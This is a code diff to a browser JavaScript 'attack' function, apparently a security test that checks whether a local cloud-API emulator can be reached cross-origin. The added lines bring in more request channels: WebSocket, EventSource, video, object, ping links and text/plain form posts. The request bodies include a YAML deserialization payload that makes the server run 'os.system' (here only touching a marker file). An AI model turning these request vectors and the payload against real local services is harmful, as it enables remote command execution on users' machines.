@@ -56,6 +56,19 @@ function submit(url, enctype, fields) {
   });
 }
 
+function connect(kind, url) {
+  return new Promise((done) => {
+    const opened = new kind(url);
+    opened.onopen = opened.onmessage = opened.onerror = opened.onclose = done;
+  });
+}
+
+function ping(url) {
+  const link = Object.assign(document.createElement("a"), {href: "#", ping: url});
+  document.body.append(link);
+  link.click();
+}
+
 async function attack(base, marker, api) {
   const TemplateBody = `Resources: !!python/object/apply:os.system ["touch ${marker}"]`;
   const stack = call("CreateStack", "2010-05-15", "cloudformation", {StackName: "hostile", TemplateBody});
@@ -65,12 +78,19 @@ async function attack(base, marker, api) {
     const url = `${base}/${path}`;
     attempts.push(load("img", "src", url), load("script", "src", url), load("link", "href", url));
     attempts.push(load("iframe", "src", url), fetch(url), fetch(url, {mode: "no-cors"}));
+    attempts.push(load("video", "src", url));
+    attempts.push(connect(WebSocket, url.replace("http", "ws")), connect(EventSource, url));
+    attempts.push(fetch(url, {mode: "no-cors", keepalive: true, referrerPolicy: "no-referrer"}));
+    attempts.push(fetch(url, {mode: "no-cors", targetAddressSpace: "local"}));
+    load("object", "data", url);  // may never tell that it has failed
+    ping(url);
   }
   for (const body of [stack, user]) {
     attempts.push(fetch(base, {method: "POST", mode: "no-cors", body}));
     attempts.push(submit(base, "application/x-www-form-urlencoded", body));
     attempts.push(submit(base, "text/plain", body));
     attempts.push(submit(`${base}/hostile`, "multipart/form-data", body));
+    attempts.push(submit(base, "text/plain", [['{"ExperimentName": "', 'hostile"}']]));
     navigator.sendBeacon(base, body);
   }
   const json = (service, target, body) =>
